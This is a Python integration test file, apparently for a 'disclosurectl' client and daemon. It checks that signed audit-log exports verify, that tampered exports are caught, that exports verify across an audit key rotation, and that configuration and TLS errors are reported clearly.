            p = ctl(self.daemon, who, *args, log=log)
            self.assertEqual(p.returncode, rc, out(p))
        answered = [r for r in read_log(log) if "status" in r]
        self.assertEqual([r["status"] for r in answered], [200, 200, 200, 403], answered)
        for r in answered:
            self.assertRegex(r.get("receipt", {}).get("hash", ""), HEX64, r)
        export = self.work / "reads-export.ndjson"
        p = ctl(self.daemon, "aud.nat", "audit", "export", "-o", str(export))
        self.assertEqual(p.returncode, OK, out(p))
        by_seq = {e["seq"]: e for e in map(json.loads, export.read_text().splitlines())}
        self.assertEqual([by_seq[r["receipt"]["seq"]]["action"] for r in answered],
                         ["check.create", "offender.read", "check.read", "offender.read"])
        p = ctl_raw("audit", "verify", export, "--key", pki().audit_pub, "--receipts", log)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("4 receipts found", out(p))

    def test_exports_in_small_pages_end_sealed_and_verify(self):
        # Every page read is itself audited, so the log grows while it is
        # read; the export must still end, sealed, whatever the page size.
        for limit in (2, 3, 5):
            with self.subTest(limit=limit):
                f = self.work / ("small-%d.ndjson" % limit)
                p = ctl(self.daemon, "aud.nat", "audit", "export", "--limit", str(limit),
                        "-o", str(f), timeout=tmo(60))
                self.assertEqual(p.returncode, OK, out(p))
                lines = f.read_bytes().splitlines()
                self.assertEqual([json.loads(l)["seq"] for l in lines], list(range(len(lines))))
                self.assertEqual(json.loads(lines[-1])["action"], "checkpoint")
                v = ctl_raw("audit", "verify", f, "--key", pki().audit_pub)
                self.assertEqual(v.returncode, OK, out(v))

    def test_another_key_is_refused(self):
        f = self.export
        p = ctl_raw("audit", "verify", f, "--key", pki().other_pub)
        self.assertEqual(p.returncode, FAILURE, out(p))
        self.assertIn("FAILED", out(p))

    def test_tampered_exports_fail_and_name_the_first_bad_seq(self):
        L = list(self.lines)
        mid = len(L) // 2
        changed = L[mid].replace(b'"status":', b'"status": ', 1)
        if changed == L[mid]:
            changed = L[mid][:20] + bytes([L[mid][20] ^ 1]) + L[mid][21:]
        seq_of = [json.loads(l)["seq"] for l in L]
        cps = [i for i, l in enumerate(L) if json.loads(l).get("action") == "checkpoint"]
        self.assertGreaterEqual(len(cps), 2, "checkpoint_every=4 should store checkpoints")
        behind = cps[-2]
        self.assertGreater(cps[-1] - behind, 2)
        cases = [
            ("a changed byte", L[:mid] + [changed] + L[mid + 1:], seq_of[mid]),
            ("a removed line", L[:mid] + L[mid + 1:], seq_of[mid]),
            ("two lines swapped", L[:mid] + [L[mid + 1], L[mid]] + L[mid + 2:], seq_of[mid]),
            ("truncated behind a checkpoint", L[:behind + 3], seq_of[behind] + 1),
            ("a forged line appended", L + [forge_line(L[-1], seq_of[-1] + 1)], seq_of[-1] + 1),
            ("an empty file", [], None),
        ]
        for name, lines, bad in cases:
            with self.subTest(case=name):
                p = self.verify(lines)
                self.assertEqual(p.returncode, FAILURE, "%s accepted: %s" % (name, out(p)))
                self.assertIn("audit verify: FAILED", out(p))
                if bad is not None:
                    self.assertIn("FAILED at seq %d" % bad, out(p))

    def test_receipts_that_are_not_in_the_export_are_refused(self):
        # An export cut exactly at an earlier checkpoint is sealed and verifies
        # on its own; only the client's receipts show that entries are missing.
        early = self.early
        p = self.verify(early)
        self.assertEqual(p.returncode, OK, out(p))
        p = self.verify(early, "--receipts", self.log)
        self.assertEqual(p.returncode, FAILURE, out(p))
        receipts = [r["receipt"] for r in read_log(self.log) if r.get("receipt")]
        sealed = json.loads(early[-1])["checkpoint"]["size"]
        missing = [r["seq"] for r in receipts if r["seq"] >= sealed]
        self.assertTrue(missing)
        self.assertIn("FAILED at seq %d" % min(missing), out(p))

        # A receipt whose hash the export does not hold (a rewritten entry).
        recs = read_log(self.log)
        for r in recs:
            if r.get("receipt"):
                r["receipt"]["hash"] = "0" * 64
                bad_seq = r["receipt"]["seq"]
                break
        forged = self.work / "forged-receipts.log"
        forged.write_text("".join(json.dumps(r) + "\n" for r in recs))
        p = ctl_raw("audit", "verify", self.export, "--key", pki().audit_pub, "--receipts", forged)
        self.assertEqual(p.returncode, FAILURE, out(p))
        self.assertIn("seq %d" % bad_seq, out(p))

    def test_verify_local_errors_exit_1(self):
        p = ctl_raw("audit", "verify", self.work / "nope.ndjson", "--key", pki().audit_pub)
        self.assertEqual(p.returncode, FAILURE, out(p))
        self.assertIn("nope.ndjson", out(p))
        p = ctl_raw("audit", "verify", self.export, "--key", self.work / "nokey.pem")
        self.assertEqual(p.returncode, FAILURE, out(p))
        self.assertIn("nokey.pem", out(p))


@unittest.skipUnless(ctl_available(), "build/disclosurectl not built")
class AuditKeyRotation(DaemonTestCase):
    """The audit key rotated as the operator's guide says (a restart with a
    new key): an export across the rotation verifies in one pass with both
    public keys, oldest first, and with nothing less."""
    records = fixture_records()[:2]
    verify_audit = False  # verified here, with both keys

    def test_an_export_across_a_rotation_verifies_with_both_keys_in_order(self):
        self.assertEqual(self.client("cw.wm").post("/v1/checks", check_body(case_ref="ROT-1")).status,
                         200)
        self.daemon.stop()
        key = self.daemon.dir / "audit-ed25519.pem"
        shutil.copy(pki().other_key, key)
        os.chmod(key, 0o600)
        self.daemon.start()
        self.assertEqual(self.client("cw.wm").post("/v1/checks", check_body(case_ref="ROT-2")).status,
                         200)
        work = Path(tempfile.mkdtemp(prefix="rotation-"))
        try:
            f = work / "audit.ndjson"
            p = ctl(self.daemon, "aud.nat", "audit", "export", "-o", str(f), timeout=tmo(60))
            self.assertEqual(p.returncode, OK, out(p))
            old, new = pki().audit_pub, pki().other_pub
            p = ctl_raw("audit", "verify", f, "--key", old, "--key", new)
            self.assertEqual(p.returncode, OK, out(p))
            for keys, says in (((old,), "FAILED at seq"), ((new,), "FAILED at seq"),
                               ((new, old), "older key")):
                with self.subTest(keys=[k.name for k in keys]):
                    args = [a for k in keys for a in ("--key", k)]
                    p = ctl_raw("audit", "verify", f, *args)
                    self.assertEqual(p.returncode, FAILURE, out(p))
                    self.assertIn(says, out(p))
            # The verifier docs/audit-format.md gives auditors (standard
            # library and openssl only) comes to the same verdicts.
            text = (REPO / "docs" / "audit-format.md").read_text()
            script = work / "verify-audit.py"
            script.write_text(re.search(r"```python\n(#!/usr/bin/env python3\n\"\"\"verify-audit"
                                        r".*?)```", text, re.S).group(1))
            for keys, ok, says in (((old, new), True, "OK: "), ((old,), False, "FAIL at seq"),
                                   ((new,), False, "FAIL at seq"),
                                   ((new, old), False, "older than an earlier one's"),
                                   ((old, new, pki().audit_pub), False, "FAIL at seq")):
                with self.subTest(documented_verifier=[k.name for k in keys]):
                    p = subprocess.run([sys.executable, str(script), str(f)] +
                                       [str(k) for k in keys], capture_output=True, timeout=tmo(60))
                    text = (p.stdout + p.stderr).decode()
                    self.assertEqual(p.returncode == 0, ok, text)
                    self.assertIn(says, text)
        finally:
            shutil.rmtree(work, ignore_errors=True)


@unittest.skipUnless(ctl_available(), "build/disclosurectl not built")
class ClientConnection(DaemonTestCase):
    """Settings from flags, environment and config file; TLS failures in words."""

    verify_audit = True

    def base_env(self):
        env = dict(os.environ)
        for k in ("DISCLOSURE_SERVER", "DISCLOSURE_CERT", "DISCLOSURE_KEY", "DISCLOSURE_CA"):
            env.pop(k, None)
        d = Path(tempfile.mkdtemp(dir=self.daemon.dir))
        env["XDG_CONFIG_HOME"] = str(d / "config")
        env["XDG_STATE_HOME"] = str(d / "state")
        return env, d

    def url(self, host="localhost"):
        return "https://%s:%d" % (host, self.daemon.port)

    def test_settings_come_from_the_environment(self):
        env, _ = self.base_env()
        crt, key = client_files("mon.wm")
        env.update(DISCLOSURE_SERVER=self.url(), DISCLOSURE_CERT=crt, DISCLOSURE_KEY=key,
                   DISCLOSURE_CA=str(pki().server_ca))
        p = ctl_raw("health", env=env)
        self.assertEqual(p.returncode, OK, out(p))
        self.assertIn("status: ok", p.stdout.decode())

    def test_settings_come_from_the_config_file_with_relative_paths(self):
        env, d = self.base_env()
        cfg = d / "config" / "disclosurectl"
        cfg.mkdir(parents=True)
        crt, key = client_files("mon.wm")
        for src, name in ((crt, "me.crt"), (key, "me.key"), (pki().server_ca, "ca.crt")):
            (cfg / name).write_bytes(Path(src).read_bytes())
        os.chmod(cfg / "me.key", 0o600)
        (cfg / "config").write_text("; fictitious operator's settings\nserver = %s\ncert = me.crt\n"
                                    "key = me.key\nca = ca.crt\n" % self.url())
        p = ctl_raw("health", env=env)
        self.assertEqual(p.returncode, OK, out(p))
        # the environment wins over the file, the flag over the environment
        env["DISCLOSURE_SERVER"] = "https://localhost:%d" % free_port()
        p = ctl_raw("health", env=env)
        self.assertEqual(p.returncode, UNREACHABLE, out(p))
        self.assertIn("DISCLOSURE_SERVER", out(p))
        p = ctl_raw("--server", self.url(), "health", env=env)
        self.assertEqual(p.returncode, OK, out(p))
        # a wrong key in the file is named with its line
        (cfg / "config").write_text("server = %s\ncertificate = me.crt\n" % self.url())
        del env["DISCLOSURE_SERVER"]
        p = ctl_raw("health", env=env)
        self.assertEqual(p.returncode, FAILURE, out(p))
        self.assertIn("config:2: unknown key 'certificate'", out(p))

    def test_missing_settings_and_unreadable_files_name_their_source(self):
        env, _ = self.base_env()
        crt, key = client_files("mon.wm")
        cases = [
            ("no server", ["health"], USAGE, "no server"),
            ("plain http", ["--server", "http://localhost:1", "--ca", pki().server_ca, "health"],
             USAGE, "https://"),
            ("a missing certificate file", ["--server", self.url(), "--ca", pki().server_ca,
                                            "--cert", "/nonexistent/me.crt", "--key", key, "health"],
             FAILURE, "/nonexistent/me.crt (from --cert)"),
            ("a key of another certificate", ["--server", self.url(), "--ca", pki().server_ca,
                                              "--cert", crt, "--key", client_files("cw.wm")[1],
                                              "health"], FAILURE, "does not belong"),
        ]
        for name, args, code, words in cases:
            with self.subTest(case=name):
                p = ctl_raw(*args, env=env)
                self.assertEqual(p.returncode, code, "%s: %s" % (name, out(p)))
                self.assertIn(words, out(p))

    def test_a_server_error_exits_4_with_the_servers_words(self):
        # A store of 1 MiB cannot take a register of thousands: the daemon
        # answers 503 unavailable, which is "the server failed", not a refusal.
        small = Daemon("ctl-smallstore", conf={"store": {"map_size": str(1 << 20)}})
        small.start()
        try:
            f = Path(small.dir) / "register.jsonl"
            f.write_bytes(b"\n".join(register_lines(5, 3000)) + b"\n")
            log = Path(small.dir) / "requests.log"
            p = ctl(small, "reg.wm", "import", str(f), log=log)
            self.assertEqual(p.returncode, UNREACHABLE, out(p))
            self.assertIn("503", out(p))
            self.assertIn("unavailable", out(p))
            self.assertEqual(read_log(log)[-1]["status"], 503)
        finally:
            small.stop(expect_rc=None)

    def test_an_unknown_ca_names_the_servers_certificate_not_its_chain(self):
        # A server that sends its CA along: the certificate refused is the
        # CA's, and the message called that "the server's certificate (CN=...
        # (no subjectAltName))", as if the server's own lacked its names.
        env, d = self.base_env()
        crt, key = client_files("mon.wm")
        chain = d / "server-chain.crt"
        chain.write_text(pki().server_crt.read_text() + pki().server_ca.read_text())
        other = Daemon("ctl-chain", conf={"tls": {"certificate": str(chain)}})
        other.start()
        try:
            p = ctl_raw("--server", "https://localhost:%d" % other.port, "--cert", crt, "--key", key,
                        "--ca", pki().client_ca, "health", env=env)
            self.assertEqual(p.returncode, UNREACHABLE, out(p))
            self.assertRegex(out(p), r"unknown CA: the server's certificate \([^)]*DNS:localhost")
            self.assertIn("chain up to CN=Itest Server CA", out(p))
        finally:
            other.stop(expect_rc=None)

    def test_tls_failures_exit_4_and_say_why(self):
        env, d = self.base_env()
        crt, key = client_files("mon.wm")
        # a server certificate for another host name, from the same server CA
        other_key, other_csr, other_crt = d / "o.key", d / "o.csr", d / "o.crt"
        ext = d / "ext.cnf"
        ext.write_text("[x]\nbasicConstraints=CA:FALSE\nextendedKeyUsage=serverAuth\n"
                       "subjectAltName=DNS:elsewhere.invalid\n")
        openssl("req", "-new", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes",
                "-keyout", other_key, "-out", other_csr, "-subj", "/CN=elsewhere.invalid")
        openssl("x509", "-req", "-in", other_csr, "-CA", pki().server_ca, "-CAkey",
                pki().dir / "server-ca.key", "-set_serial", "4242", "-days", "2",
                "-extfile", ext, "-extensions", "x", "-out", other_crt)
        os.chmod(other_key, 0o600)
        other = Daemon("ctl-othername", conf={"tls": {"certificate": str(other_crt),
                                                      "private_key": str(other_key)}})
        # The harness's own readiness probe checks the host name, so wait for the port.
        other.start(wait=False)
        try:
            deadline = time.monotonic() + tmo(20)
            while True:
                try:
                    socket.create_connection(("127.0.0.1", other.port), timeout=1).close()
                    break
                except OSError:
                    if time.monotonic() > deadline or not other.alive():
                        raise AssertionError("the second daemon did not listen:\n" + other.log_tail())
                    time.sleep(0.05)
            p = ctl_raw("--server", "https://localhost:%d" % other.port, "--cert", crt, "--key", key,
                        "--ca", pki().server_ca, "health", env=env)
            self.assertEqual(p.returncode, UNREACHABLE, out(p))
            self.assertIn("hostname mismatch", out(p))
            self.assertIn("elsewhere.invalid", out(p))
        finally:
            other.stop(expect_rc=None)

        def run(principal_files, ca=pki().server_ca, server=None):
            args = ["--server", server or self.url(), "--ca", ca]
            if principal_files:
                args += ["--cert", principal_files[0], "--key", principal_files[1]]
            return ctl_raw(*args, "health", env=env)

        cases = [
            ("a server CA we do not trust", run(client_files("mon.wm"), ca=pki().client_ca),
             UNREACHABLE, "unknown CA"),
            ("our certificate expired", run(client_files("expired")), UNREACHABLE, "expired"),
            ("our certificate from a rogue CA", run(client_files("rogue")), UNREACHABLE,
             "our client certificate"),
            ("no client certificate", run(None), UNREACHABLE, "requires a client certificate"),
            ("nothing listening", run(client_files("mon.wm"),
                                      server="https://localhost:%d" % free_port()),
             UNREACHABLE, "cannot connect"),
            ("a certificate in no ACL section", run(client_files("unknown")), REFUSED, "403"),
        ]
        for name, p, code, words in cases:
            with self.subTest(case=name):
                self.assertEqual(p.returncode, code, "%s: %s" % (name, out(p)))
                self.assertIn(words, out(p))
                if os.environ.get("CTL_SHOW_MESSAGES"):
                    print("\n%s: %s" % (name, out(p).strip()))


if __name__ == "__main__":
    unittest.main()
